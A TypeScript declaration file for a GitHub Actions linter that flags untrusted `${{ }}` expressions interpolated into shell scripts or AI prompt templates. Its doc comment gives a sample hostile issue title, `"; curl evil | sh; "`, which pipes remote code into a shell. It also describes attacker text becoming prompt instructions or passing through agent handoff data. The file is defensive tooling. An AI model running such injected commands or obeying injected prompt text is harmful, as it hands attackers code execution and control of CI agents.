import type { Job } from '../../workflow/index.js';
import type { LintContext } from '../context.js';
import type { LintFinding } from '../finding.js';
/**
 * `untrusted-expression`: GitHub replaces `${{ }}` with its value before a script or an action sees the
 * text. Interpolated into a `run:` script, an issue title like `"; curl evil | sh; "` becomes shell; into a
 * prompt template, it becomes template and instructions before baton can fence it. Attacker-controlled
 * values are the text fields of the event payload (`github.event.*`, see event-text.ts), `github.head_ref`
 * (a branch name anyone can choose), and the `data` a handoff carries (an agent wrote it, perhaps after
 * reading attacker text). Only a path whose value can reach the expression's result counts: pasted,
 * `contains(github.event.issue.title, 'x')` is `true` or `false`, whatever the title says.
 */
export declare function checkUntrustedExpressions(context: LintContext): LintFinding[];
/**
 * The inputs (lower case) of the workflow a job calls (`uses: ./.github/workflows/x.yml`) that its `with:`
 * gives untrusted text: inside the called workflow, `inputs.<name>` is that text, as a composite action's are.
 */
export declare function taintedCallInputs(context: LintContext, job: Job): Set<string>;
